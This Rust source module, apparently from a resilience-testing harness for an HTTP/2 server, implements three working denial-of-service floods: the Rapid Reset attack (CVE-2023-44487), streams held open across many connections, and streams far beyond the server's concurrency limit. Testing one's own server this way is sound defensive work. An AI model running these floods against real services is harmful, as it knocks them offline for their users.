//! Streams opened for nothing.

use std::net::SocketAddr;

use anyhow::Result;

use super::TIME;
use crate::ask::LEGAL_PLAYS;
use crate::frames::{END_HEADERS, END_STREAM, Kind, Raw, frame, head, within};

/// Streams opened and reset at once, again and again, on a new connection where one is closed (CVE-2023-44487).
pub(super) async fn rapid_reset(address: SocketAddr) -> Result<String> {
    const PAIRS: u32 = 500;
    let (until, block) = (within(TIME), head(LEGAL_PLAYS, &[]));
    let (mut connections, mut pairs) = (0, 0);
    while tokio::time::Instant::now() < until && connections < 2_000 {
        let mut raw = Raw::open(address, &[]).await?.draining();
        connections += 1;
        for first in (0..100).map(|round| round * PAIRS) {
            let burst: Vec<u8> =
                (first..first + PAIRS).flat_map(|number| pair(number * 2 + 1, &block)).collect();
            if !raw.send(&burst, until).await {
                break;
            }
            pairs += PAIRS;
        }
    }
    Ok(format!("{pairs} resets on {connections} connections"))
}

/// A stream opened, and reset.
fn pair(stream: u32, block: &[u8]) -> Vec<u8> {
    let opened = frame(Kind::Headers, END_HEADERS, stream, block);
    [opened, frame(Kind::Reset, 0, stream, &8_u32.to_be_bytes())].concat()
}

/// As many streams as are allowed, on many connections, each opened and never ended.
pub(super) async fn left_open(address: SocketAddr) -> Result<String> {
    const CONNECTIONS: usize = 50;
    const STREAMS: u32 = 100;
    let (until, block) = (within(TIME), head(LEGAL_PLAYS, &[]));
    let opened: Vec<u8> =
        (0..STREAMS).flat_map(|n| frame(Kind::Headers, END_HEADERS, n * 2 + 1, &block)).collect();
    let mut held = Vec::new();
    for _ in 0..CONNECTIONS {
        let mut raw = Raw::open(address, &[]).await?.draining();
        raw.send(&opened, until).await;
        held.push(raw);
    }
    tokio::time::sleep_until(until).await;
    Ok(format!("{} streams on {CONNECTIONS} connections, held", CONNECTIONS * STREAMS as usize))
}

/// Thousands of whole calls at once on each connection, far more than the server allows.
pub(super) async fn too_many(address: SocketAddr) -> Result<String> {
    const STREAMS: u32 = 5_000;
    let (until, block) = (within(TIME), head(LEGAL_PLAYS, &[]));
    let flags = END_HEADERS | END_STREAM;
    let opened: Vec<u8> = (0..STREAMS).flat_map(|n| frame(Kind::Headers, flags, n * 2 + 1, &block)).collect();
    let mut streams = 0;
    for _ in 0..10 {
        let mut raw = Raw::open(address, &[]).await?.draining();
        streams += if raw.send(&opened, until).await { STREAMS } else { 0 };
    }
    Ok(format!("{streams} streams on 10 connections"))
}
